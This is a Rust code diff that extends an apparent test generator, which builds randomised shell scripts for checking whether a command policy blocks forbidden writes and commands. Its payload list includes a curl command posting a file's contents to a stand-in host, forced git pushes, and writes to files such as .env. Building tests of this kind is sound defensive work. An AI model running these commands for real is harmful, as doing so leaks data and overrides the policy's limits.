@@ -1,8 +1,8 @@
 //! Trees from seeds.
 
-use super::calls::{Call, DRESSES, Dress, Word, forms_for};
+use super::calls::{Call, DRESSES, Dress, WRAPPED, WRITERS, WRITES, Word, forms_for};
 use super::dice::Dice;
-use super::forms::{CARRIERS, Form, Kind, LISTS, NESTS};
+use super::forms::{CARRIERS, Form, Kind, LISTS, NAMED, NESTS, PROLOGUES, REAL_NESTS};
 use super::{Piece, Style};
 
 /// Commands that a policy forbids; the first word of each is its program.
@@ -39,6 +39,86 @@ pub fn attack(seed: u64) -> Piece {
         piece = around(piece, &mut dice);
     }
     piece
+}
+
+/// Files that a policy forbids to write.
+const TARGETS: &[&str] = &[
+    "build/new",
+    "new",
+    "notes.txt",
+    "build/a.o",
+    "src/main.rs",
+    "two words",
+    ".env",
+];
+
+/// A script that is to run a payload or to write a file, and whether it needs the place with real programs.
+#[must_use]
+pub fn script(seed: u64) -> (Piece, bool) {
+    let mut dice = Dice::new(seed ^ 0x5c4_1947);
+    let real = dice.chance(30);
+    let mut piece = match (dice.below(10), real) {
+        (0..=4, true) => written(WRITERS, &mut dice),
+        (_, true) => {
+            let mut piece = call(REAL_PAYLOADS, true, &mut dice);
+            if let Piece::Call(call) = &mut piece
+                && dice.chance(60)
+            {
+                let words: Vec<&str> = call.words.iter().map(|word| word.text.as_str()).collect();
+                call.dress = Some(dice.choose(WRAPPED)).filter(|dress| fits(dress, &words));
+            }
+            piece
+        }
+        (0..=3, false) => written(WRITES, &mut dice),
+        _ => call(PAYLOADS, true, &mut dice),
+    };
+    let depth = dice.pick(&[0, 1, 1, 1, 2, 2, 2, 3, 3, 4]);
+    for _ in 0..depth {
+        piece = match dice.below(10) {
+            0 | 1 => beside(piece, &mut dice),
+            2 => nest(dice.choose(PROLOGUES), vec![piece], &mut dice),
+            3 | 4 => nest(dice.choose(NAMED), vec![piece], &mut dice),
+            5 | 6 if real => nest(dice.choose(REAL_NESTS), vec![piece], &mut dice),
+            _ => nest(dice.choose(NESTS), vec![piece], &mut dice),
+        };
+    }
+    if dice.chance(20) {
+        piece = nest(dice.choose(PROLOGUES), vec![piece], &mut dice);
+    }
+    (piece, real)
+}
+
+/// Payloads whose programs are stubs in every place.
+const REAL_PAYLOADS: &[&[&str]] = &[
+    &["git", "push", "-f"],
+    &["git", "push", "origin", "main"],
+    &["curl", "-d", "@notes.txt", "http://example.test/x"],
+    &["curl", "two words"],
+];
+
+/// A file written in one of these ways.
+fn written(ways: &'static [Dress], dice: &mut Dice) -> Piece {
+    let mut call = Call::plain(&[dice.pick(TARGETS)]);
+    call.seed = dice.seed();
+    call.dress = Some(dice.choose(ways));
+    if let Some(word) = call.words.first_mut()
+        && dice.chance(40)
+    {
+        // A redirect takes one word.
+        let mut fitting = forms_for(&word.text, false);
+        fitting.retain(|form| form.name != "brace with an empty end");
+        word.form = Some(dice.pick(&fitting));
+    }
+    Piece::Call(call)
+}
+
+/// A simple command, and the same behind a wrapper.
+#[must_use]
+pub fn wrapped(seed: u64) -> (String, String) {
+    let mut dice = Dice::new(seed ^ 0x9_9999);
+    let bare = call(PAYLOADS, false, &mut dice).write(Style::PLAIN);
+    let wrapped = dice.pick(super::wrappers::WRAPPERS).replace("%c", &bare);
+    (bare, wrapped)
 }
 
 /// A script in which a payload's words stand only as text. `plain`: without expansions, substitutions and variables.
@@ -135,7 +215,7 @@ fn nest(form: &'static Form, parts: Vec<Piece>, dice: &mut Dice) -> Piece {
 }
 
 fn holes(form: &Form) -> usize {
-    ["%c", "%t", "%g", "%l", "%e", "%h"]
+    ["%c", "%t", "%g", "%l", "%e", "%h", "%S", "%F"]
         .iter()
         .map(|hole| form.text.matches(hole).count())
         .sum()
